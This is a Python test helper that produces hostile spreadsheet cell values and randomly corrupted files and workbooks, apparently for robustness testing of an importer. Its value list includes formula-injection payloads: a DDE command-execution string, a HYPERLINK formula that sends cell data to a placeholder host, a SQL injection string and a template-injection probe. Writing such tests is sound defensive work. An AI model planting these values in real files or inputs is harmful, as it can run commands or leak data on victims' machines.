"""Texts and files that mean harm: what a spreadsheet would run, what breaks quotes or markup, damage on the way."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from contextlib import suppress

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1", "-2+3", "\t=1", "'=1", '=HYPERLINK("http://x/?"&A1,"ici")', "\u202e=1",
    "<b>&amp;</b>", "]]>", "<!DOCTYPE x>", "{{7*7}}", "%s%n", "'; DROP TABLE x; --", "NULL", "N/A", "#REF!", "TRUE", "1e9",
    '"', '""', '";"', "a\r\nb", "a\nb;c;d", ";;;;", ",,,,", "\\", "\\x00", "\x0b", "\x1f", "\x7f", "\ufeff", "\u00a0", "\ufdd0",
    "_x0041_", "𝒜", "e\u0301", "x" * 5_000, "٣", "½", "31/02/2009", "00/00/0000", "9" * 40, "-0", "1,2,3", "[]", "{}", "null",
)  # fmt: skip
"""Cells that mean harm."""

_BITS = (
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b'"',
    b'""',
    b"\r",
    b"\n",
    b";",
    b"{",
    b"]",
    b"<",
    b"\xe9",
    b"\xed\xa0\x80",
    b"\x1a",
)


def damaged(content: bytes, draw: random.Random) -> bytes:
    """Bytes after one to four accidents: some lost, doubled, swapped, overwritten, or put in between."""
    for _ in range(draw.randint(1, 4)):
        content = draw.choice(_ACCIDENTS)(content, draw)
    return content


def _cut(content: bytes, draw: random.Random) -> bytes:
    return content[: draw.randint(0, len(content))]


def _lost(content: bytes, draw: random.Random) -> bytes:
    at = draw.randint(0, len(content))
    return content[:at] + content[at + draw.randint(1, 40) :]


def _doubled(content: bytes, draw: random.Random) -> bytes:
    at = draw.randint(0, len(content))
    return content[:at] + content[at : at + draw.randint(1, 200)] + content[at:]


def _overwritten(content: bytes, draw: random.Random) -> bytes:
    at = draw.randint(0, len(content))
    return content[:at] + draw.randbytes(draw.randint(1, 8)) + content[at + 8 :]


def _between(content: bytes, draw: random.Random) -> bytes:
    at = draw.randint(0, len(content))
    return content[:at] + draw.choice(_BITS) * draw.randint(1, 3) + content[at:]


def _other_encoding(content: bytes, draw: random.Random) -> bytes:
    text = content.decode("utf-8", "replace")
    return text.encode(draw.choice(["utf-16", "utf-16-le", "cp850", "utf-7", "utf-8-sig"]), "replace")


_ACCIDENTS: tuple[Callable[[bytes, random.Random], bytes], ...] = (
    _cut, _lost, _doubled, _overwritten, _between, _between, _other_encoding,
)  # fmt: skip


def damaged_book(book: bytes | None, draw: random.Random) -> bytes:
    """A workbook after an accident to its bytes, or to a part of it that is then packed again as if it were sound."""
    whole = book or _plain()
    if draw.random() < 0.25:
        return damaged(whole, draw)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as parts, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        hit = draw.choice([name for name in parts.namelist() if name.endswith(".xml")])
        for name in parts.namelist():
            with suppress(KeyError):
                content = parts.read(name)
                packed.writestr(name, damaged(content, draw) if name == hit else content)
    return out.getvalue()


def _plain() -> bytes:
    """A workbook of corrections that corrects nothing."""
    import openpyxl

    book, out = openpyxl.Workbook(), io.BytesIO()
    sheet = book.create_sheet("x", 0)
    for row in (["N° anomalie", "Que faire", "x"], ["1", "", "y"]):
        sheet.append(row)
    book.save(out)
    return out.getvalue()
